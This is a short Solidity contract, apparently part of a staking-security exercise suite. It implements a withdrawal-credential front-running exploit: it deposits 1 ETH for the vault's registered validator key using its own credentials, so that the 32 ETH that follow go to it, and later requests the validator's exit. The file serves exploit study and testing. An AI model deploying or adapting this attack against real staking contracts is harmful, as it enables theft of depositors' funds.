// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IBeaconChain} from "../../1-staking/interfaces/IBeaconChain.sol";
import {DepositData} from "../../1-staking/DepositData.sol";
import {Exploit, Scene} from "../Exploit.sol";
import {KeyBoard} from "./KeyBoard.sol";

/// @title A deposit of 1 ETH that takes the 32 ETH that follow it
/// @notice Sees which key the vault will stake with, deposits for it with his own credentials, and lets the validator
/// leave once it may.
contract StolenCredentials is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        IBeaconChain beacon = IBeaconChain(others[0]);
        (bytes memory pubkey, bytes memory signature) = KeyBoard(others[1]).registered();
        if (number == 1) {
            bytes32 credentials = DepositData.credentialsFor(0x01, address(this));
            bytes32 root = DepositData.root(pubkey, credentials, 1 gwei, signature);
            beacon.deposit{value: 1 ether}(pubkey, abi.encodePacked(credentials), signature, root);
        }
        if (number == 3) beacon.requestWithdrawal{value: beacon.withdrawalRequestFee()}(pubkey, 0);
    }
}
